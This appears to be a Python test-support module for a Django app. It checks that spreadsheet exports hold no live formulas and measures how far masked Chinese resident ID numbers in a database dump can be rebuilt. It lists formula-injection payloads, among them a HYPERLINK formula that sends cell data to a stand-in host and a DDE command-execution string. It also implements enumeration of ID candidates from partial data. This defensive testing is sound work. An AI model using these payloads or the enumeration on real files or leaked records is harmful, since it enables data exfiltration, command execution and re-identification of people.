"""Test support shared by every app's tests: formula payloads for the text a user can
type, and the check that a spreadsheet the app wrote holds none of them live; the
enumeration of the ID numbers a database dump leaves possible. Imported only by tests."""

from __future__ import annotations

import io
import random
import statistics
from collections.abc import Iterable, Iterator, Mapping
from datetime import date, datetime, timedelta
from typing import Any

from django.db import connection
from openpyxl import load_workbook
from stdnum.cn.ric import calc_check_digit

from jijie.core.sheets import FORMULA_STARTS

# What an attacker types where a name goes: each would run if a sheet evaluated it.
PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&INDIRECT("L"&ROW()),"查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
)


def as_stored(payload: str, max_length: int) -> str:
    """`payload` as a text column keeps it: cut to the column's length, and without NUL
    on PostgreSQL, which refuses it in text."""
    if connection.vendor == "postgresql":
        payload = payload.replace("\x00", "")
    return payload[:max_length]


def readable(payload: str) -> str:
    """`payload` as a spreadsheet reads back: no NUL (it cannot hold one), LF for CR."""
    return payload.replace("\x00", "").replace("\r", "\n")


def live_cells(data: bytes) -> list[str]:
    """Every cell of every sheet of an .xlsx that a spreadsheet would run, as
    "sheet!A1: value": a formula cell, or text starting as a formula does."""
    found = []
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str) and value.startswith(FORMULA_STARTS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {value!r}")
    return found


# Resident ID numbers rebuilt from a database dump ---------------------------------------

FEW_CANDIDATES = 10  # few enough to try one by one


def sample_ids(rng: random.Random, address: str, count: int) -> list[str]:
    """`count` distinct valid resident ID numbers of people born in `address` (6 digits)
    between 1940 and 2004."""
    numbers: set[str] = set()
    while len(numbers) < count:
        born = date(1940, 1, 1) + timedelta(days=rng.randrange(65 * 365))
        body = f"{address}{born:%Y%m%d}{rng.randrange(1000):03d}"
        numbers.add(body + calc_check_digit(body + "0"))
    return sorted(numbers)


def id_candidates(
    row: Mapping[str, Any], area_codes: Iterable[str], *, today: date, cap: int = 1000
) -> list[str]:
    """The 18-digit resident ID numbers that agree with what a database dump holds of one
    row in clear, found without any key: the mask (first 3 and last 4 characters: the
    sequence number and the check digit), any column about the birth (a date: the birth
    date; a number: the birth year), and the 6-digit codes of the areas the row lives in,
    the attacker's best guess for the rest of the address code (most people are registered
    where they live). Ciphertexts and keyed hashes tell nothing without the keys.
    Enumeration stops after `cap` + 1 candidates."""
    masked = str(row["document_masked"])
    head, sequence, check = masked[:3], masked[-4:-1], masked[-1]
    addresses = sorted(
        {code[:6] for code in area_codes if code[:6].isdigit() and code.startswith(head)}
    ) or [f"{head}{n:03d}" for n in range(1000)]
    born: date | None = None
    years = range(1890, today.year + 1)
    for column, value in row.items():
        if "birth" not in column or value is None or isinstance(value, bool | datetime):
            continue
        if isinstance(value, date):
            born = value
        elif isinstance(value, int):
            years = range(value, value + 1)
    days = [born] if born is not None else _days(years, today)
    found = []
    for day in days:
        for address in addresses:
            body = f"{address}{day:%Y%m%d}{sequence}"
            if calc_check_digit(body + "0") == check:
                found.append(body + check)
                if len(found) > cap:
                    return found
    return found


def _days(years: range, today: date) -> Iterator[date]:
    for year in years:
        day = date(year, 1, 1)
        while day.year == year and day <= today:
            yield day
            day += timedelta(days=1)


def id_reconstruction(
    rows: Iterable[Mapping[str, Any]],
    *,
    path_column: str,
    areas: Mapping[str, str],
    numbers: Mapping[int, str],
    today: date,
) -> list[int]:
    """How many ID numbers each dumped row leaves possible. `areas` is the dump's area
    table ({path: code}); a row's area codes are those of its `path_column`'s area and its
    ancestors. `numbers` ({row id: the true number}) checks that the enumeration is sound."""
    counts = []
    for row in rows:
        path = str(row[path_column])
        codes = [code for prefix, code in areas.items() if path.startswith(prefix)]
        candidates = id_candidates(row, codes, today=today)
        if len(candidates) <= FEW_CANDIDATES and numbers[row["id"]] not in candidates:
            raise AssertionError(f"row {row['id']}: the true number was not enumerated")
        counts.append(len(candidates))
    return counts


def reconstruction_figures(counts: list[int]) -> str:
    few = sum(1 for count in counts if count <= FEW_CANDIDATES)
    return (
        f"{few} of {len(counts)} ID numbers narrow to ≤ {FEW_CANDIDATES} candidates "
        f"(fewest {min(counts)}, median {statistics.median(counts)})"
    )
